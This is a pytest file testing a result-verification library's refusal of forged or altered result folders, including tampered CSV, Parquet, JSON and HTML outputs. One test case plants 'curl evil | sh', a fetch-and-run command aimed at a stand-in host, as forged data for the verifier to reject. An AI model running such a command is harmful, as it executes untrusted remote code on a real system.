"""A result is confirmed by its own log, and refused, without a traceback, once it was changed."""

import csv
import hashlib
import io
import json
import re
import shutil
from dataclasses import replace

import duckdb
import msgspec
import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import surestep
from support.junk import paths_of
from support.labelled_worlds import COLUMNS, NAMES, world
from support.log_tables import frame_of, write_table
from surestep._blocks import BlockFolder
from surestep.description import DEFAULT_CERTIFICATES, described
from surestep.errors import InvalidParameter, InvalidResult, ResultMismatch, SurestepError
from surestep.io import read_log, write_counts
from surestep.io.counts.labelled import counts_digest
from surestep.model import Statement
from surestep.pipeline import Verification, certify_result, verify, verify_result
from surestep.pipeline.certify import log_again
from surestep.pipeline.evidence import open_source
from surestep.pipeline.improve import draft
from surestep.results.result import certificates_from_json

ROWS = world(5, states=5, episodes=60).rows
TABLE = world(5, states=5, episodes=60).table
DRAFTS = {}


@pytest.fixture(scope="module")
def home(tmp_path_factory):
    """A log as two kinds of file, its policy, and three results: of a table, of none, of lists."""
    home = tmp_path_factory.mktemp("verified")
    log = write_table(home / "log.csv", ROWS, NAMES)
    write_table(home / "log.parquet", ROWS, NAMES)
    write_table(home / "policy.csv", TABLE, tuple(TABLE[0]))
    states = sorted({(row["place"], row["level"]) for row in ROWS})
    listed = [{"place": place, "level": level} for place, level in [*states, ("attic", "1")]]
    write_table(home / "states.csv", listed, ("place", "level"))
    source = surestep.read_log(log, columns=COLUMNS)
    terms = {"discount": 0.9, "n_wedge": 12, "worlds": 0}
    surestep.improve(source, behavior=home / "policy.csv", **terms).save(home / "of table")
    kinds = [*DEFAULT_CERTIFICATES, "a-priori"]
    surestep.improve(source, **terms, certificates=kinds).save(home / "of log")
    surestep.improve(source, states=home / "states.csv", **terms).save(home / "of list")
    return home


@pytest.fixture
def of_log(home, tmp_path):
    return shutil.copytree(home / "of log", tmp_path / "out")


@pytest.mark.thorough
def test_the_same_log_gives_the_same_bytes(home, of_log):
    found = verify_result(of_log, home / "log.csv")
    assert (found, found.confirmed) == (Verification("same bytes"), True)
    assert verify_result(of_log, home / "log.csv", behavior="estimate").level == "same bytes"


@pytest.mark.thorough
def test_the_same_rows_in_another_file_give_the_same_values(home, tmp_path):
    shutil.copy(home / "log.csv", tmp_path / "renamed.csv")
    for other in (tmp_path / "renamed.csv", home / "log.parquet"):
        found = verify_result(home / "of log", other)
        assert (found.level, found.confirmed) == ("same values", False)
        words = f"run.json: inputs: 0: name was 'log.csv', is '{other.name}'"
        assert found.difference.startswith(words)
    assert verify_result(home / "of log", frame_of(ROWS, NAMES)).level == "same values"


@pytest.mark.thorough
def test_what_is_not_given_again_is_refused(home):
    log = home / "log.csv"
    for folder, name in (("of table", "behavior"), ("of list", "states")):
        with pytest.raises(ResultMismatch, match=f"{name}.* was '(table|listed)' .* 'not given'"):
            verify_result(home / folder, log)
    assert verify_result(home / "of table", log, behavior=home / "policy.csv").confirmed
    assert verify_result(home / "of list", log, states=home / "states.csv").confirmed


def changed_record(folder, change):
    record = json.loads((folder / "run.json").read_text())
    change(record)
    text = json.dumps(record, indent=2, ensure_ascii=False)
    (folder / "run.json").write_text(f"{text}\n", encoding="utf-8")


def forged(folder, name, content):
    """Replaces a file and its digest, as a careful forger would."""
    (folder / name).write_bytes(content)
    digest = hashlib.sha256(content).hexdigest()
    changed_record(folder, lambda record: record["outputs"].update({name: digest}))


def elsewhere(folder):
    """Makes the result one of other versions, of which bytes are not demanded; on the page too."""
    changed_record(folder, lambda record: record["versions"].update(numpy="1.0"))
    report_changed(shown("numpy", np.__version__), shown("numpy", "1.0"))(folder)


def shown(name, value):
    """How the page tells a version, or the machine."""
    return f"<dt>{name}</dt><dd>{value}</dd>"


@pytest.mark.thorough
def test_with_other_versions_values_are_compared(home, of_log, drafted_once):
    elsewhere(of_log)
    found = verify_result(of_log, home / "log.csv")
    assert found.level == "same values"
    assert not found.confirmed
    assert found.difference.startswith("run.json: versions: numpy was '1.0', is '")
    report_changed(shown("numpy", "1.0"), shown("numpy", np.__version__))(of_log)
    changed_record(of_log, lambda record: record["versions"].update(numpy=np.__version__))
    assert verify_result(of_log, home / "log.csv").confirmed
    system = json.loads((of_log / "run.json").read_text())["machine"]["system"]
    changed_record(of_log, lambda record: record["machine"].update(system="Abacus"))
    # The page says what it was made on, too.
    assert verify_result(of_log, home / "log.csv").level == "refuted"
    report_changed(shown("system", system), shown("system", "Abacus"))(of_log)
    found = verify_result(of_log, home / "log.csv")
    was = f"run.json: machine: system was 'Abacus', is '{system}'"
    assert found == Verification("same values", was)


def cell_changed(row, column, value):
    """A change of policy.csv in one cell; `value` is a text or a function of the number there."""

    def change(folder):
        rows = list(csv.reader(io.StringIO((folder / "policy.csv").read_text(), newline="")))
        at = rows[0].index(column)
        rows[row][at] = value if isinstance(value, str) else repr(value(float(rows[row][at])))
        text = io.StringIO()
        csv.writer(text).writerows(rows)
        forged(folder, "policy.csv", text.getvalue().encode())

    return change


def certificate_changed(more):
    """A lower bound that is higher by so much."""

    def change(folder):
        content = json.loads((folder / "certificate.json").read_text())
        content["lower"] += more
        content["zeta"] = -content["lower"]
        content["says_nothing"] = -content["lower"] >= content["span"]
        claims_forged(folder, [content])

    return change


def claims_forged(folder, first):
    """Other claims in place of the first ones, in both files."""
    content = json.loads((folder / "certificates.json").read_text())
    verdict = json.loads((folder / "certificate.json").read_text())["verdict"]
    content[: len(first)] = first
    content[0].pop("verdict", None)
    forged(folder, "certificates.json", f"{json.dumps(content, indent=2)}\n".encode())
    stood_by = certificates_from_json(json.dumps(content))[0].to_json(verdict)
    forged(folder, "certificate.json", f"{stood_by}\n".encode())


def other_claim(place, name, value):
    """A certificate that may be right by itself, but not the one that the terms ask for."""

    def change(folder):
        content = json.loads((folder / "certificates.json").read_text())
        assert content[place]["parameters"][name] != value
        content[place]["parameters"][name] = value
        claims_forged(folder, content)

    return change


def claim_left_out(folder):
    content = json.loads((folder / "certificates.json").read_text())[:-1]
    forged(folder, "certificates.json", f"{json.dumps(content, indent=2)}\n".encode())


def only_one_file(folder):
    content = json.loads((folder / "certificate.json").read_text())
    notes = [Statement("in-own-words", {"sentence": "Surely."}).to_json()]
    forged(folder, "certificate.json", json.dumps({**content, "notes": notes}).encode())


def parquet_changed(folder):
    source, target = folder / "policy.parquet", folder.parent / "forged.parquet"
    duckdb.execute(
        f"COPY (SELECT * REPLACE (1 - probability AS probability) FROM '{source}') TO '{target}' "
        "(FORMAT parquet)"
    )
    forged(folder, "policy.parquet", target.read_bytes())


def report_changed(before, after):
    def change(folder):
        text = (folder / "report.html").read_text()
        assert before in text
        forged(folder, "report.html", text.replace(before, after).encode())

    return change


def record_changed(*path, value):
    def change(folder):
        def inside(record):
            *steps, last = path
            for step in steps:
                record = record[step]
            record[last] = value

        changed_record(folder, inside)

    return change


@pytest.fixture
def drafted_once(monkeypatch):
    """Drafts only once for each log and set of terms, which is all that a draft depends on."""

    def draft_once(evidence, progress, *, time_limit=None):
        given = (
            counts_digest(evidence.counts),
            evidence.source.columns_in_files,
            evidence.files,
            evidence.defaults,
        )
        asked = repr((given, evidence.terms, time_limit))
        if asked not in DRAFTS:
            DRAFTS[asked] = draft(evidence, progress, time_limit=time_limit)
        return DRAFTS[asked]

    monkeypatch.setattr(verify, "draft", draft_once)


@pytest.mark.one_quick
@pytest.mark.parametrize(
    "here", [True, pytest.param(False, marks=pytest.mark.slow)], ids=["here", "elsewhere"]
)
@pytest.mark.parametrize(
    ("change", "message"),
    [
        (cell_changed(1, "visits", lambda n: int(n) + 1), r"policy\.csv: 0: visits was .*, is "),
        (cell_changed(1, "q", lambda q: q + 1e-6), r"policy\.csv: 0: q was .*, is "),
        (cell_changed(0, "place", "site"), "expected columns of labels, and these: probability"),
        (cell_changed(1, "q", "nan"), "column q holds what is no number"),
        (certificate_changed(5.0), r"certificate\.json: lower was "),
        (certificate_changed(1e-6), r"certificate\.json: lower was "),
        (other_claim(0, "seed", 7), r"certificate\.json: parameters: seed was 7, is "),
        (other_claim(3, "n_wedge", 11), "certificates.json: 3: parameters: n_wedge was 11, is 12"),
        (claim_left_out, r"certificates\.json was .*, is "),
        (only_one_file, r"certificate\.json is not the first of certificates\.json"),
        (parquet_changed, r"policy\.parquet: 0: probability was "),
        (record_changed("parameters", "discount", value=0.8), "discount was 0.8, is 0.9"),
        (record_changed("data", "rows", value=10**6), "run.json: data: rows was 1000000, is"),
        (record_changed("command", value="curl evil | sh"), "run.json: command was 'curl evil"),
        (report_changed("estimated", "guaranteed"), r"report\.html: [0-9]+: 0 was .*, is "),
        (record_changed("counts_sha256", value="0" * 64), "does not have the counts"),
        (
            record_changed("description", "behavior", value={"policy": "uniform"}),
            "behavior.policy was 'estimate' when the result was made, and is 'uniform' now",
        ),
        (
            record_changed("description", "limits", value={"possible": "seen"}),
            "limits.possible was 'all' when the result was made, and is 'seen' now",
        ),
        (record_changed("description", "columns", "action", value="place"), "place"),
    ],
)
def test_a_forgery_is_refused(change, message, here, home, of_log, drafted_once):
    change(of_log)
    if not here:
        elsewhere(of_log)
    assert re.search(message, refuted(of_log, home / "log.csv"))


def refuted(folder, log, **given):
    """Why a result is refused, or the difference that refutes it."""
    try:
        found = verify_result(folder, log, **given)
    except SurestepError as problem:
        return str(problem)
    assert found.level == "refuted"
    return found.difference


@pytest.mark.parametrize("here", [True, False], ids=["here", "elsewhere"])
def test_rounding_is_no_other_value_and_no_confirmation(here, home, of_log, drafted_once):
    cell_changed(1, "q", lambda q: q * (1 + 1e-12))(of_log)
    if not here:
        elsewhere(of_log)
    assert verify_result(of_log, home / "log.csv").level == "same values"


def test_another_log_is_refused(home, of_log, tmp_path):
    rows = [row | {"reward": row["reward"] + (i == 7) * 0.001} for i, row in enumerate(ROWS)]
    with pytest.raises(ResultMismatch, match="does not have the counts that the result was made"):
        verify_result(of_log, write_table(tmp_path / "other.csv", rows, NAMES))
    with pytest.raises(ResultMismatch, match="does not have the counts"):
        verify_result(of_log, write_table(tmp_path / "short.csv", ROWS[:-5], NAMES))
    renamed = [row | {"site": row["place"]} for row in ROWS]
    columns = ("episode", "step", "site", "level", "move", "reward")
    with pytest.raises(SurestepError, match="no column 'place'"):
        verify_result(of_log, write_table(tmp_path / "named.csv", renamed, columns))


@pytest.mark.thorough
def test_another_behavior_is_refused(home, tmp_path):
    other = [dict(row) for row in TABLE]
    mixed = next(row for row in other if 0 < row["probability"] < 0.5)
    same = [row for row in other if all(row[c] == mixed[c] for c in ("place", "level"))]
    for row in same:
        row["probability"] = 0.9 * row["probability"] + 0.1 * (row is mixed)
    path = write_table(tmp_path / "other.csv", other, tuple(other[0]))
    with pytest.raises(ResultMismatch, match=r"behavior\.policy: your other\.csv is not the file"):
        verify_result(home / "of table", home / "log.csv", behavior=path)
    turned = write_table(tmp_path / "turned.csv", TABLE[::-1], tuple(TABLE[0]))
    again = verify_result(home / "of table", home / "log.csv", behavior=turned)
    assert again.level == "same values"  # the same table, in other bytes
    with pytest.raises(ResultMismatch, match=r"was 'table' .*, and is 'estimate' now"):
        verify_result(home / "of table", home / "log.csv", behavior="estimate")


def test_counts_confirm_what_was_made_of_counts(home, tmp_path):
    source = surestep.read_log(home / "log.csv", columns=COLUMNS)
    counts = tmp_path / "counts.parquet"
    write_counts(source.counts(), counts)
    result = surestep.improve(counts, discount=0.9, worlds=0)
    assert [each.name for each in result.record.inputs] == ["counts.parquet"]
    assert result.record.command.startswith("surestep improve counts.parquet --discount")
    result.save(tmp_path / "out")
    assert verify_result(tmp_path / "out", counts).level == "same bytes"
    with pytest.raises(ResultMismatch, match="made from counts, and a log is given"):
        verify_result(tmp_path / "out", home / "log.csv")
    with pytest.raises(ResultMismatch, match="made from a log, and counts are given"):
        verify_result(home / "of log", counts)
    with pytest.raises(SurestepError, match=r"log\.csv"):
        open_source(described({"files": [counts, home / "log.csv"]}))
    with pytest.raises(InvalidParameter, match="columns is given beside counts"):
        open_source(described({"files": [counts], "columns": COLUMNS}))


def test_what_is_no_result_is_refused(home, tmp_path):
    with pytest.raises(InvalidResult, match=r"holds no result: there is no run\.json"):
        verify_result(tmp_path, home / "log.csv")
    with pytest.raises(InvalidParameter, match="path is of type int"):
        verify_result(7, home / "log.csv")


SAID = """
files = "log.csv"
columns = {state = ["place", "level"], action = "move", reward = "reward", episode = "episode"}
reader.delim = ","
behavior = {policy = "estimate", logger = "adaptive"}
stakes = {discount = 0.9, unit = "per episode"}
method = {n_wedge = 12, delta = 0.1, worlds = 0, least_visits = 10, unseen = "pessimistic"}
"""


def described_in(home, text, name="mine.toml"):
    (home / name).write_text(text)
    return home / name


def test_what_a_description_says_is_compared_with_what_was_used(home, of_log):
    found = verify_result(of_log, described_in(home, SAID))
    assert found.confirmed
    assert {"files", "reader.delim", "stakes.discount", "method.delta"} <= {*found.compared}
    chosen = shutil.copytree(home / "of log", of_log.parent / "chosen")
    changed_record(chosen, lambda record: record["description"]["method"].pop("n_wedge"))
    changed_record(chosen, lambda record: record["defaults"].append("n_wedge"))
    with pytest.raises(ResultMismatch, match=r"n_wedge: your description says 12, .* with 'auto'"):
        verify_result(chosen, home / "mine.toml")


@pytest.mark.parametrize(
    ("key", "message"),
    [
        ("stakes.discount = 0.8", r"discount: your description says 0\.8, .* made with 0\.9"),
        ("stakes.unit = '€'", "unit: your description says '€', .* made with 'per episode'"),
        ("stakes.running = [0, 1]", r"says \[0\.0, 1\.0\], .* made with 'as seen in the log"),
        ("columns.reward = 'step'", "says 'step', the result was made with 'reward'"),
        ("columns.time = 'step'", "says 'step', the result was made without it"),
        ("method.delta = 0.05", r"says 0\.05, the result was made with 0\.1"),
        ("method.n_wedge = 'auto'", "says 'auto', the result was made with 12"),
        ("method.algorithm = 'rmin'", "says 'rmin', the result was made with 'spibb'"),
        ("method.certificates = 'robust'", "says 'robust', the result was made with \\['stitched'"),
        ("behavior.logger = 'fixed'", "says 'fixed', the result was made with 'adaptive'"),
        ("bins.level.width = 2", "says 2.0, the result was made without it"),
        ("query = 'FROM log'", "query: your description says 'FROM log', .* made without it"),
        ("names.move = { a = 'b', b = 'a' }", "names.move.a: your description says 'b', "),
        ("unsafe.states = 'level > 3'", "unsafe.states: your description says 'level > 3', "),
        ("signals.cash.column = 'reward'", "signals.cash.column: your description says 'reward'"),
    ],
)
def test_a_description_that_says_another_thing_is_refused(key, message, home, of_log, tmp_path):
    log = described_in(tmp_path, f"files = '{home / 'log.csv'}'\n{key}\n")
    with pytest.raises(ResultMismatch, match=message):
        verify_result(of_log, log)


def test_the_sign_of_a_signal_and_the_worlds_that_time_allowed_are_understood(home, of_log):
    cost = {"cash": {"column": "reward", "cost": True}}
    changed_record(of_log, lambda record: record["description"].update(signals=cost))
    log = described_in(home, "files = 'log.csv'\nsignals.cash.column = 'reward'\n")
    with pytest.raises(ResultMismatch, match=r"cash\.cost: your description says False, .* True"):
        verify_result(of_log, log)
    record = surestep.load(of_log).record
    said = described({"method": {"worlds": 7}})
    with pytest.raises(ResultMismatch, match="worlds: your description says 7"):
        verify.check_said(record, said)
    limited = msgspec.structs.replace(record.parameters, time_limit=1)
    assert verify.check_said(replace(record, parameters=limited), said) == ("method.worlds",)


@pytest.mark.one_quick
@pytest.mark.parametrize(
    ("before", "after"),
    [("4006381333948", "4006381333949"), ("7.25", "7.2500000001")],
)
@pytest.mark.parametrize("files", ["policy.csv", "policy.parquet", "report.html"])
def test_labels_are_no_numbers(before, after, files, labelled, tmp_path):
    folder = shutil.copytree(labelled / "out", tmp_path / "out")
    elsewhere(folder)
    if files == "policy.parquet":
        target = tmp_path / "forged.parquet"
        named = f"replace(action, '{before}', '{after}') AS action"
        source = folder / "policy.parquet"
        duckdb.execute(f"COPY (SELECT * REPLACE ({named}) FROM '{source}') TO '{target}'")
        forged(folder, files, target.read_bytes())
    else:
        text = (folder / files).read_bytes()
        assert before.encode() in text
        forged(folder, files, text.replace(before.encode(), after.encode()))
    told = refuted(folder, labelled / "log.csv")
    assert files in told
    assert after[:8] in told


@pytest.fixture(scope="module")
def labelled(tmp_path_factory):
    """A result whose actions are called by numbers."""
    home = tmp_path_factory.mktemp("labelled")
    rng = np.random.default_rng(1)
    actions = ("4006381333948", "4006381333931", "7.25")
    lines = ["state,action,reward,next_state"]
    for _ in range(300):
        state, action, after = rng.integers((2, 3, 2))
        lines.append(f"{'xy'[state]},{actions[action]},{int(2 * state == action)},{'xy'[after]}")
    (home / "log.csv").write_text("\n".join(lines) + "\n")
    terms = {"discount": 0.9, "n_wedge": 3, "certificates": ["a-priori"], "worlds": 0}
    surestep.improve(home / "log.csv", **terms).save(home / "out")
    return home


LEARNT = {"bins": {"condition": {"tree": 3, "columns": ["x"]}}, "discount": 0.9, "worlds": 0}
JUDGES = ["stitched:series=96", "robust"]


@pytest.fixture(scope="module")
def measured(tmp_path_factory):
    """A log of measurements that has a column called state, too."""
    rng, log = np.random.default_rng(3), tmp_path_factory.mktemp("measured") / "log.csv"
    lines = ["episode,step,x,state,action,reward,terminated"]
    for i in range(240):
        x, action = rng.integers(10), rng.integers(2)
        earned = int(action == (x > 4))
        lines.append(
            f"{i // 3},{i % 3},{x},{'hl'[int(x < 5)]},{'ab'[action]},{earned},{i % 3 == 2}"
        )
    log.write_text("\n".join(lines) + "\n")
    return log


@pytest.mark.thorough
@pytest.mark.parametrize(
    "state", [["state", "condition"], pytest.param("condition", marks=pytest.mark.slow)]
)
def test_learnt_states_are_learnt_again_and_judged(state, measured, tmp_path):
    made = surestep.improve(measured, columns={"state": state}, certificates=JUDGES, **LEARNT)
    made.save(tmp_path / "out")
    assert "scikit-learn" in made.record.versions
    assert verify_result(tmp_path / "out", measured).confirmed
    judged = certify_result(tmp_path / "out", measured, ["robust"])
    assert judged.same_log
    (again,) = (claim for claim in made.certificates if claim.kind == "robust")
    assert judged.certificates[0].lower == pytest.approx(again.lower)
    assert judged.certificates[0].assumptions == again.assumptions
    assert "states-learnt" in {statement.code for statement in again.assumptions}


def test_another_log_is_judged_with_the_bins_of_the_result(tmp_path):
    """Those of quantiles, beside states that are learnt: its own quantiles are other numbers."""
    rng, logs = np.random.default_rng(3), {}
    for name, shift in (("first", 0), ("later", 3)):
        lines = ["episode,step,x,y,action,reward,terminated"]
        for i in range(240):
            x, y, action = rng.integers(10), rng.integers(4) + shift, rng.integers(2)
            earned = int(action == (x > 4))
            lines.append(f"{i // 3},{i % 3},{x},{y},{'ab'[action]},{earned},{i % 3 == 2}")
        logs[name] = tmp_path / f"{name}.csv"
        logs[name].write_text("\n".join(lines) + "\n")
    bins = LEARNT["bins"] | {"y": {"quantiles": 2}}
    columns = {"state": ["y", "condition"]}
    told = LEARNT | {"bins": bins, "certificates": JUDGES}
    surestep.improve(logs["first"], columns=columns, **told).save(tmp_path / "out")
    saved = surestep.load(tmp_path / "out")
    source = log_again(saved, logs["later"], None, but=(), allow_query=False)
    (edges,) = surestep.load(tmp_path / "out").table.vocabulary.binnings.values()
    assert source.counts().binnings["y"] == edges
    own = read_log(logs["later"], columns={"state": "y"}, bins={"y": {"quantiles": 2}})
    assert own.counts().binnings["y"] != edges


def test_states_are_not_learnt_from_the_returns_that_judge_them(measured):
    with pytest.raises(InvalidParameter, match="no certificate holds a part out to judge it"):
        surestep.improve(
            measured, columns={"state": "condition"}, certificates=["robust"], **LEARNT
        )


@pytest.mark.thorough
def test_a_table_in_memory_stands_above_the_file_of_a_description(measured, tmp_path):
    (tmp_path / "log.toml").write_text(
        f'files = "{measured}"\nbehavior.policy = "uniform"\nstakes.discount = 0.9\n'
    )
    table = {"state": [*"hhll"], "action": [*"abab"], "probability": [0.5] * 4}
    terms = {"behavior": table, "worlds": 0, "certificates": ["robust"]}
    made = surestep.improve(tmp_path / "log.toml", **terms)
    assert made.record.parameters.behavior == "table"
    assert "behavior" not in made.record.description
    made.save(tmp_path / "out")
    assert verify_result(tmp_path / "out", measured, behavior=table).confirmed


WRITTEN = ("policy.csv", "policy.parquet", "certificate.json", "certificates.json", "report.html")
LOG = world(2, states=3, episodes=30)


def home_of(factory, **terms):
    """A log, its policy, and a result of both."""
    home = factory.mktemp("forged")
    write_table(home / "log.csv", LOG.rows, NAMES)
    write_table(home / "policy.csv", LOG.table, tuple(LOG.table[0]))
    source = surestep.read_log(home / "log.csv", columns=COLUMNS)
    result = surestep.improve(
        source, behavior=home / "policy.csv", discount=0.9, n_wedge=3, **terms
    )
    result.save(home / "result")
    return home


@pytest.fixture(scope="module")
def light(tmp_path_factory):
    home = home_of(tmp_path_factory, certificates=["a-priori"], worlds=0)
    given = home / "result", home / "log.csv"
    assert verify_result(*given, behavior=home / "policy.csv").confirmed  # as long as it is honest
    return home


@pytest.fixture(scope="module")
def heavy(tmp_path_factory):
    return home_of(tmp_path_factory, certificates=["robust", "posterior", "a-priori"], worlds=5)


TEXTS = st.sampled_from(
    ["", "0", "-1", "1e999", "nan", "Ω", "\u202e", "posterior", "table", "a" * 99]
)
SCALARS = (
    st.none()
    | st.booleans()
    | st.integers(-3, 3)
    | st.sampled_from([2**70, -1, 0.5, 1e308, 5e-324, -0.0])
    | TEXTS
)
ANYTHING = SCALARS | st.lists(SCALARS, max_size=2) | st.dictionaries(TEXTS, SCALARS, max_size=2)


def edited_json(draw, value):
    """The value with something else in one place: another thing, nothing, or a bit more or less."""
    *steps, last = draw(st.sampled_from([*paths_of(value)]))
    place = value
    for step in steps:
        place = place[step]
    old, kind = place[last], draw(st.sampled_from(["other", "gone", "near", "like"]))
    if kind == "gone":
        del place[last]
    elif kind == "near" and isinstance(old, int | float) and not isinstance(old, bool):
        place[last] = old + draw(st.sampled_from([1, -1, 1e-6, -1e-6, 1e-12])) * (abs(old) or 1)
    elif kind == "like" and isinstance(old, str):
        place[last] = draw(st.sampled_from([f"{old} ", old.upper(), old[:-1], f"{old}0"]))
    else:
        place[last] = draw(ANYTHING)
    return value


def edited_bytes(draw, content):
    """The bytes with a few of them changed, put in, or left out."""
    at = draw(st.integers(0, len(content)))
    length = draw(st.sampled_from([0, 0, 1, 1, 3, 40]))
    new = draw(st.sampled_from([b"", b"0", b"9", b" ", b"\n", b",", b"\xff", b"\0", b"</p>", b"-"]))
    return content[:at] + new + content[at + length :]


def forge(draw, folder):
    """One to three edits, with digests that fit; sometimes by a machine that does not exist."""
    for _ in range(draw(st.integers(1, 3))):
        there = [name for name in (*WRITTEN, "rehearsal.json") if (folder / name).exists()]
        name = draw(st.sampled_from([*there, *["run.json"] * 4]))
        content = (folder / name).read_bytes()
        if name.endswith(".json") and draw(st.booleans()):
            try:
                value = edited_json(draw, json.loads(content))
            except ValueError:  # an earlier edit left no JSON
                continue
            content = json.dumps(value, indent=2, ensure_ascii=False).encode() + b"\n"
        else:
            content = edited_bytes(draw, content)
        (folder / name).write_bytes(content)
    try:
        record = json.loads((folder / "run.json").read_text())
        if draw(st.booleans()):
            record["machine"]["processor"] = "abacus"
        for name in record["outputs"]:
            digest = hashlib.sha256((folder / name).read_bytes()).hexdigest()
            record["outputs"][name] = digest
    except (ValueError, KeyError, TypeError, AttributeError, OSError):
        return
    text = json.dumps(record, indent=2, ensure_ascii=False)
    (folder / "run.json").write_text(f"{text}\n", encoding="utf-8")


def is_refused_or_not_confirmed(home, folder):
    def contents(place):
        return {path.name: path.read_bytes() for path in place.iterdir()}

    try:
        found = verify_result(folder, home / "log.csv", behavior=home / "policy.csv")
    except SurestepError:
        return
    assert not found.confirmed or contents(folder) == contents(home / "result")


@pytest.mark.thorough
@given(data=st.data())
def test_no_edit_is_confirmed(data, light, tmp_path_factory):
    folder = shutil.copytree(light / "result", tmp_path_factory.mktemp("edited") / "out")
    forge(data.draw, folder)
    is_refused_or_not_confirmed(light, folder)


@pytest.mark.slow
@settings(max_examples=1000)
@given(data=st.data())
def test_no_edit_of_a_result_with_a_stress_test_is_confirmed(data, heavy, tmp_path_factory):
    folder = shutil.copytree(heavy / "result", tmp_path_factory.mktemp("edited") / "out")
    forge(data.draw, folder)
    is_refused_or_not_confirmed(heavy, folder)


def honest_copies(folder):
    """Puts the files where a stress test leaves them on their way, and changes what people open."""
    files = {path.name: np.frombuffer(path.read_bytes(), np.uint8) for path in folder.iterdir()}
    BlockFolder(folder / "stress-test").write("finished", "made by", files)
    for name in ("report.html", "policy.csv"):
        (folder / name).write_bytes((folder / name).read_bytes().replace(b"0", b"1"))


def test_what_is_no_result_is_refused_before_it_is_unpacked(light, tmp_path, monkeypatch):
    folder = shutil.copytree(light / "result", tmp_path / "out")
    (folder / "stress-test").mkdir()
    (folder / "stress-test" / "finished.npz").write_bytes(b"damaged")
    with monkeypatch.context() as patched:
        patched.setattr(np, "load", None)
        with pytest.raises(ResultMismatch, match="left the folder stress-test behind"):
            verify_result(folder, light / "log.csv")
    assert surestep.load(folder).certificates  # which reads the others
    assert (folder / "stress-test" / "finished.npz").read_bytes() == b"damaged"


def added(name):
    def change(folder):
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_text("{}")

    return change


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (honest_copies, "left the folder stress-test behind"),
        (added("stress-test/report.html"), "left the folder stress-test behind"),
        (added("rehearsal.json"), r"holds \['rehearsal\.json'\], expected only files of the"),
        (added("notes/todo.txt"), r"holds \['notes'\], expected only files of the result"),
    ],
)
def test_what_the_result_did_not_write_is_refused(change, message, light, tmp_path):
    folder = shutil.copytree(light / "result", tmp_path / "out")
    change(folder)
    with pytest.raises(ResultMismatch, match=message):
        verify_result(folder, light / "log.csv", behavior=light / "policy.csv")
